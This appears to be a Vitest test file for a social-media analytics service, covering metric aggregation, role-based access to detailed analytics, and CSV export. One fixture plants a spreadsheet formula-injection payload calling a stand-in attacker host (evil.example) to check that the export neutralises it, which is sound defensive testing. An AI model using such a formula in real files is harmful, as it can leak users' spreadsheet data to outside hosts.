import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { systemDb } from "@mg/db/system";
import { freshAccount, freshPost } from "../procedure-cases/social";
import { readCsvCell } from "../../src/csv/write-csv";
import { EXPORT_COLUMNS } from "../../src/routers/analytics/export-csv";
import { callerFor, createTenant, deleteTenant, outcome, type Tenant } from "../fixtures";

let t: Tenant;
beforeAll(async () => {
  t = await createTenant("analytics");
});
afterAll(async () => {
  await deleteTenant(t);
});

const DAY = 86_400_000;
const todayStart = () => {
  const now = new Date();
  return Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), now.getUTCDate());
};
const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);

/** A published post on `accountId` with the given cumulative hourly snapshots. */
async function publishedWithSnapshots(accountId: string, snapshots: { at: number; impressions: number; likes?: number; comments?: number; shares?: number; clicks?: number }[]) {
  const postId = await freshPost(t, accountId);
  const publishedAt = new Date(todayStart() - DAY + 11 * 3_600_000);
  await systemDb().post.update({ where: { id: postId }, data: { status: "PUBLISHED", publishedAt } });
  const target = await systemDb().postTarget.findFirstOrThrow({ where: { postId } });
  await systemDb().postTarget.update({ where: { id: target.id }, data: { status: "PUBLISHED", publishedAt } });
  for (const s of snapshots) {
    await systemDb().postMetric.create({
      data: { organizationId: t.id, postTargetId: target.id, socialAccountId: accountId, periodStart: new Date(s.at), impressions: s.impressions, likes: s.likes ?? 0, comments: s.comments ?? 0, shares: s.shares ?? 0, clicks: s.clicks ?? 0 },
    });
  }
  return { postId, targetId: target.id };
}

describe("analytics never double counts cumulative snapshots", () => {
  let accountId: string;
  let quietAccountId: string;
  let postId: string;

  beforeAll(async () => {
    accountId = await freshAccount(t);
    quietAccountId = await freshAccount(t);
    const yesterdayNoon = todayStart() - DAY + 12 * 3_600_000;
    ({ postId } = await publishedWithSnapshots(accountId, [
      { at: yesterdayNoon, impressions: 100, likes: 5 },
      { at: todayStart() + 1 * 3_600_000, impressions: 250, likes: 12, comments: 2 },
      { at: todayStart() + 2 * 3_600_000, impressions: 300, likes: 15, comments: 3, shares: 1, clicks: 4 },
    ]));
    await systemDb().accountMetric.createMany({
      data: [
        { organizationId: t.id, socialAccountId: accountId, day: day(todayStart() - DAY), followers: 1000 },
        { organizationId: t.id, socialAccountId: accountId, day: day(todayStart()), followers: 1010 },
      ],
    });
  });

  it("postMetrics: per-period increments that add up to the latest snapshot", async () => {
    const result = await callerFor(t.users.ANALYST, t.slug).analytics.postMetrics({ postId });
    const [target] = result.targets;
    expect(target?.series.map((p) => [p.impressions, p.likes, p.comments, p.shares, p.clicks])).toEqual([
      [100, 5, 0, 0, 0],
      [150, 7, 2, 0, 0],
      [50, 3, 1, 1, 4],
    ]);
    expect(target?.series[2]?.engagementRate).toBeCloseTo(9 / 50);
    expect(target?.totals).toMatchObject({ impressions: 300, likes: 15, comments: 3, shares: 1, clicks: 4, engagements: 23 });
    expect(target?.totals.engagementRate).toBeCloseTo(23 / 300);
    expect(result.totals.impressions).toBe(300);
  });

  it("overview: totals from each target's latest snapshot only; rates from sums; 0 without impressions", async () => {
    const overview = await callerFor(t.users.ANALYST, t.slug).analytics.overview({ days: 7 });
    expect(overview.totals).toMatchObject({ posts: 1, impressions: 300, engagements: 23 });
    expect(overview.totals.engagementRate).toBeCloseTo(23 / 300);
    const row = overview.accounts.find((a) => a.account.id === accountId);
    expect(row).toMatchObject({ posts: 1, impressions: 300, likes: 15, followers: 1010, followersChange: 10 });
    expect(overview.accounts.find((a) => a.account.id === quietAccountId)).toMatchObject({ posts: 0, impressions: 0, engagementRate: 0, followers: null });
  });

  it("accountMetrics: a day holds only its own increments (the day before is the baseline)", async () => {
    const caller = callerFor(t.users.ANALYST, t.slug);
    const oneDay = await caller.analytics.accountMetrics({ accountId, days: 1 });
    expect(oneDay.series).toEqual([{ day: day(todayStart()), followers: 1010, impressions: 200, engagements: 18, engagementRate: 18 / 200 }]);

    const twoDays = await caller.analytics.accountMetrics({ accountId, days: 2 });
    expect(twoDays.series.map((d) => [d.day, d.impressions, d.engagements, d.followers])).toEqual([
      [day(todayStart() - DAY), 100, 5, 1000],
      [day(todayStart()), 200, 18, 1010],
    ]);
    expect(twoDays.totals).toMatchObject({ impressions: 300, engagements: 23, followers: 1010, followersChange: 10 });

    const quiet = await caller.analytics.accountMetrics({ accountId: quietAccountId, days: 3 });
    expect(quiet.series.every((d) => d.impressions === 0 && d.engagementRate === 0 && d.followers === null)).toBe(true);
  });
});

describe("detailed analytics and the export", () => {
  let accountId: string;
  let postId: string;

  beforeAll(async () => {
    accountId = await freshAccount(t, { handle: "export_me" });
    ({ postId } = await publishedWithSnapshots(accountId, [
      { at: todayStart() - DAY + 13 * 3_600_000, impressions: 40, likes: 1 },
      { at: todayStart() - DAY + 14 * 3_600_000, impressions: 80, likes: 3, comments: 1, clicks: 2 },
    ]));
    // Text a spreadsheet would run as a formula.
    await systemDb().post.update({ where: { id: postId }, data: { content: '=HYPERLINK("https://evil.example/?"&A1,"Click")' } });
  });

  it("are for analysts, not viewers: the overview is for everyone, the detail and the CSV are not", async () => {
    const viewer = callerFor(t.users.VIEWER, t.slug);
    const analyst = callerFor(t.users.ANALYST, t.slug);
    expect(await outcome(viewer.analytics.overview({ days: 7 }))).toBe("OK");
    expect(await outcome(viewer.analytics.postMetrics({ postId }))).toBe("FORBIDDEN");
    expect(await outcome(viewer.analytics.accountMetrics({ accountId, days: 7 }))).toBe("FORBIDDEN");
    expect(await outcome(viewer.analytics.export({}))).toBe("FORBIDDEN");
    expect(await outcome(analyst.analytics.postMetrics({ postId }))).toBe("OK");
    expect(await outcome(analyst.analytics.accountMetrics({ accountId, days: 7 }))).toBe("OK");
    expect(await outcome(analyst.analytics.export({}))).toBe("OK");
    // The organization says so, for the app to show or hide what depends on it.
    const mine = (role: "VIEWER" | "ANALYST") => callerFor(t.users[role], t.slug).organization.current().then((c) => c.permissions);
    expect(await mine("VIEWER")).not.toContain("analytics.view_detailed");
    expect(await mine("ANALYST")).toEqual(expect.arrayContaining(["analytics.view_detailed", "analytics.export"]));
  });

  it("export: one row per published post and account with its latest snapshot; formula text stays text", async () => {
    const file = await callerFor(t.users.ANALYST, t.slug).analytics.export({});
    expect(file.fileName).toMatch(new RegExp(`^${t.slug}-post-metrics-all-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
    const lines = file.csv.split("\r\n");
    expect(lines[0]).toBe(EXPORT_COLUMNS.join(","));
    expect(lines).toHaveLength(file.rowCount + 1);
    const line = lines.find((l) => l.endsWith(`,${postId}`));
    expect(line, "the exported post").toBeDefined();
    // The formula is neutralized by a leading quote (and quoted, as it holds commas and quotes).
    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    expect(readCsvCell(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`)).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
    const numbers = line?.split(",").slice(-10, -2);
    // impressions, reach, likes, comments, shares, clicks, engagements, engagement_rate (latest snapshot only, never 40 + 80)
    expect(numbers).toEqual(["80", "0", "3", "1", "0", "2", "6", String(6 / 80)]);
    // A handle starts with @, which spreadsheets also evaluate: the same writer keeps it text.
    expect(line).toContain("SANDBOX,Account export_me,'@export_me,");
  });

  it("export: `days` keeps only posts published in that window", async () => {
    const old = await publishedWithSnapshots(accountId, [{ at: todayStart() - 40 * DAY, impressions: 10 }]);
    await systemDb().postTarget.update({ where: { id: old.targetId }, data: { publishedAt: new Date(todayStart() - 40 * DAY) } });
    const all = await callerFor(t.users.OWNER, t.slug).analytics.export({});
    const recent = await callerFor(t.users.OWNER, t.slug).analytics.export({ days: 7 });
    expect(all.csv).toContain(old.postId);
    expect(recent.csv).not.toContain(old.postId);
    expect(recent.csv).toContain(postId);
    expect(recent.fileName).toContain("-last-7-days-");
  });
});
